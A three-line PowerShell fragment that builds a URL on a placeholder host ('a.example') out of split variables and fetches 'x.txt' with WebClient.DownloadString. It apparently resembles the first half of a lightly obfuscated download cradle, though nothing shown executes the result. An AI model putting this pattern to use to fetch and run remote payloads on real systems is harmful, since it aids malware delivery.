$o=@{h='a.example'};$l='y','x.txt'
$wc = New-Object System.Net.WebClient
$wc.DownloadString("http://$($o.h)/p/$($l[1])")
